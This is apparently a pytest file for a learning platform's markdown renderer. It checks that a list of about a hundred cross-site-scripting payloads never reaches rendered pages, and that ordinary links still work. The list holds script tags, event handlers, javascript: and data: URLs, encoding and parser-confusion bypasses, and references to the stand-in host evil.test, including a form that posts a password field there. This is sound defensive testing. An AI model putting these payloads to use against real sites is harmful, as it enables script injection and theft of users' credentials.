"""An attack list: whatever an author pastes, no script, handler or hostile address reaches the page."""

import pytest

from lms.core import markdown
from tests.authoring.unsafe import unsafe_parts

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    "<IMG SRC=`javascript:alert(1)`>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext></p><img src=x onerror=alert(1)></math>",
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.test/>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>@import '//evil.test/x.css';</style>",
    "<form action=//evil.test><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<div style=position:fixed;inset:0>x</div>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=1.0?><script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java\tscript:alert(1)>)",
    "[x](java\nscript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://here.test/1)",
    "[x](view-source:https://here.test)",
    "[x](feed:javascript:alert(1))",
    "[x](//evil.test/)",
    "[x](\\\\evil.test\\)",
    "[x](/\\evil.test/)",
    "[x](lesson:javascript:alert(1))",
    '[x](term:"onmouseover=alert(1))',
    "[x](LESSON:javascript:alert(1))",
    '[x](https://here.test/" onmouseover="alert(1))',
    '[x](https://here.test "\\" onmouseover=alert(1) ")',
    "[x]\n\n[x]: javascript:alert(1)",
    '[x][y]\n\n[y]: <javascript:alert(1)> "t"',
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](x.png)',
    "![<script>alert(1)</script>](x.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "```<script>\nalert(1)\n```",
    '```" onclick="alert(1)\nx\n```',
    "`<script>alert(1)</script>`",
    "# <img src=x onerror=alert(1)>",
    '# " onclick="alert(1)',
    "|<script>alert(1)</script>|\n|-|\n|x|",
    '|" onfocus=alert(1) autofocus x="|\n|-|\n|x|',
    "> [!RULE]\n> <script>alert(1)</script>",
    '> [!RULE" onclick=alert(1)]\n> x',
    "> [!<script>]\n> x",
    "> [!MODEL+]\n> **<img src=x onerror=alert(1)>:** “x”",
    "> [!MODEL-]\n> **A:** (<script>alert(1)</script>) “x”",
    "**<script>:** “<script>alert(1)</script>”",
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    'x[^" onclick=alert(1)]\n\n[^" onclick=alert(1)]: y',
    "x^[<img src=x onerror=alert(1)>]",
    "<b>term</b>\n: <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "\u202e<script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    '<a/href="javascript:alert(1)"/onclick=alert(1)>x',
    "*<img src=x onerror=alert(1)>*",
    "**A:** “[x](javascript:alert(1))”",
    "- <script>alert(1)</script>\n- [x](javascript:alert(1))",
    "1. > <iframe src=//evil.test></iframe>",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    '<p class="callout" id=main onclick=alert(1)>x</p>',
]


def test_the_list_is_long_enough():
    assert len(set(ATTACKS)) >= 90


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_does_not_reach_the_page(attack: str):
    assert unsafe_parts(markdown.render(attack)) == []
    assert unsafe_parts(markdown.inline(attack)) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_cleaner_alone_stops_an_attack(attack: str):
    assert unsafe_parts(markdown._CLEANER.clean(attack)) == []


@pytest.mark.parametrize(
    "attack",
    [
        "<img src=x onerror=alert(1)>",
        "<svg onload=x>",
        '<a href="javascript:x">x</a>',
        '<a href=" java&#10;script:x">x</a>',
        '<a href="//evil.test">x</a>',
        '<p style="color:red">x</p>',
    ],
)
def test_the_judge_knows_an_attack_when_it_sees_one(attack: str):
    assert unsafe_parts(attack)


def test_labels_from_a_translation_cannot_carry_markup():
    html = markdown.render("> [!RULE]\n> Do.", {"RULE": "<img src=x onerror=alert(1)>"})
    assert unsafe_parts(html) == []
    assert "&lt;img" in html


@pytest.mark.parametrize(
    ("text", "href"),
    [
        ("[x](https://example.org/a?b=c)", "https://example.org/a?b=c"),
        ("[x](http://example.org)", "http://example.org"),
        ("[x](mailto:care@example.org)", "mailto:care@example.org"),
        ("[x](/learning/)", "/learning/"),
        ("[x](other)", "other"),
        ("[x](#part-one)", "#part-one"),
        ("[x](lesson:cold-room)", "/learning/lessons/cold-room"),
        ("[x](term:open-question)", "/courses/glossary#open-question"),
        ("[x](term:Open%20question)", "/courses/glossary#open-20question"),
    ],
)
def test_honest_links_arrive(text: str, href: str):
    assert f'<a href="{href}"' in markdown.render(text)


def test_text_that_is_too_long_is_refused():
    with pytest.raises(markdown.TextTooLongError):
        markdown.render("a" * (markdown.LARGEST + 1))
